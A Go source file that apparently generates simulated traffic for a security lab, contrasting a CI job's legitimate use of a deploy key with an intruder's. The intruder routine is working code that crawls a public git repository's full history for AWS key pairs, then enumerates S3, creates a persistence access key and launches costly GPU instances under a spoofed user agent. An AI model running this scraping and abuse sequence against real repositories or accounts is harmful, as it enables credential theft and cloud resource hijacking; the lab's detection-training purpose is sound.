package traffic

import (
	"context"
	"fmt"
	"io"
	"net/http"
	"net/url"
	"regexp"
	"strings"
	"time"

	"github.com/sakimori/sakimori/labs/cloudsim/apps"
	"github.com/sakimori/sakimori/labs/cloudsim/client"
)

// Keys in the Repo's traffic: the CI system using its deploy key as it
// should, and an intruder who scrapes the public repository's history for
// keys (EleKtra-Leak found them within minutes) and uses the one it finds.
func init() {
	register("leak-ci", leakCI)
	register("leak-intruder", leakIntruder)
}

// leakCI uploads a build every minute with the CI key from its own address.
func leakCI(ctx context.Context, env Env) error {
	c := &client.Client{Endpoint: env("CLOUD"), UserAgent: "aws-cli/2.15.30 Python/3.11.8 Linux/5.15.0-1057-aws exe/x86_64.ubuntu.22 command/s3.cp",
		Creds: &client.Credentials{AccessKeyID: env("AWS_ACCESS_KEY_ID"), SecretAccessKey: env("AWS_SECRET_ACCESS_KEY")}}
	for n := 1; sleep(ctx, time.Minute); n++ {
		body := []byte(fmt.Sprintf("build %d of acme-web\n", n))
		if res, err := c.S3("PUT", fmt.Sprintf("/acme-build-artifacts/builds/acme-web-%04d.tar.gz", n), body); err != nil || !res.OK() {
			logger.Info("ci: upload failed", "result", res.String(), "err", err)
		}
	}
	return nil
}

var (
	keyIDPattern  = regexp.MustCompile(`AKIA[A-Z2-7]{16}`)
	secretPattern = regexp.MustCompile(`(?m)AWS_SECRET_ACCESS_KEY\s*=\s*"?([A-Za-z0-9/+]{40})`)
)

func leakIntruder(ctx context.Context, env Env) error {
	if !sleep(ctx, duration(env, "DELAY", 30*time.Second)) {
		return nil
	}
	for {
		if err := leakOnce(env); err != nil {
			logger.Info("intruder: run ended early", "err", err)
		}
		if !sleep(ctx, 15*time.Minute) {
			return nil
		}
	}
}

func leakOnce(env Env) error {
	hc := &http.Client{Timeout: 10 * time.Second}
	repo := env("GIT") + env("REPO")
	refs, err := fetchText(hc, repo+"/info/refs")
	if err != nil {
		return err
	}
	head, _, _ := strings.Cut(refs, "\t")
	creds, err := scrapeKeys(head, func(path string) ([]byte, error) {
		b, err := fetchText(hc, repo+"/"+path)
		return []byte(b), err
	})
	if err != nil {
		return err
	}
	c := &client.Client{Endpoint: env("CLOUD"), Creds: creds, UserAgent: "Boto3/1.34.69 md/Botocore#1.34.69 ua/2.0 os/linux#6.1.0 lang/python#3.11.2"}
	if _, err := c.Query("sts", "GetCallerIdentity", nil); err != nil {
		return err
	}
	_, _ = c.S3("GET", "/", nil)
	_, _ = c.S3("GET", "/acme-build-artifacts?list-type=2", nil)
	_, _ = c.Query("iam", "CreateAccessKey", url.Values{"UserName": {"ci-deployer"}})
	_, err = c.Query("ec2", "RunInstances", url.Values{"ImageId": {"ami-0b4c7e2f9d1a3e5c7"}, "InstanceType": {"p3.16xlarge"},
		"MinCount": {"4"}, "MaxCount": {"4"}})
	return err
}

// scrapeKeys walks every commit of a repository from head, reading
// objects with fetch (a path like objects/ab/cdef...), and takes the first
// key pair it finds in any file of any version.
func scrapeKeys(head string, fetch func(path string) ([]byte, error)) (*client.Credentials, error) {
	seen := map[string]bool{}
	queue := []string{strings.TrimSpace(head)}
	for len(queue) > 0 {
		id := queue[0]
		queue = queue[1:]
		if seen[id] || len(id) != 40 {
			continue
		}
		seen[id] = true
		raw, err := fetch("objects/" + id[:2] + "/" + id[2:])
		if err != nil {
			return nil, err
		}
		kind, body, err := apps.ReadObject(raw)
		if err != nil {
			return nil, err
		}
		switch kind {
		case "commit":
			for _, line := range strings.Split(string(body), "\n") {
				if rest, ok := strings.CutPrefix(line, "tree "); ok {
					queue = append(queue, rest)
				} else if rest, ok := strings.CutPrefix(line, "parent "); ok {
					queue = append(queue, rest)
				}
			}
		case "tree":
			queue = append(queue, treeEntries(body)...)
		case "blob":
			id, secret := keyIDPattern.FindString(string(body)), secretPattern.FindStringSubmatch(string(body))
			if id != "" && secret != nil {
				return &client.Credentials{AccessKeyID: id, SecretAccessKey: secret[1]}, nil
			}
		}
	}
	return nil, fmt.Errorf("no keys in the history")
}

func treeEntries(body []byte) []string {
	var ids []string
	for len(body) > 0 {
		nul := strings.IndexByte(string(body), 0)
		if nul < 0 || len(body) < nul+21 {
			break
		}
		ids = append(ids, fmt.Sprintf("%x", body[nul+1:nul+21]))
		body = body[nul+21:]
	}
	return ids
}

func fetchText(hc *http.Client, u string) (string, error) {
	resp, err := hc.Get(u)
	if err != nil {
		return "", err
	}
	defer resp.Body.Close()
	if resp.StatusCode != http.StatusOK {
		return "", fmt.Errorf("%s: %s", u, resp.Status)
	}
	b, err := io.ReadAll(io.LimitReader(resp.Body, 4<<20))
	return string(b), err
}
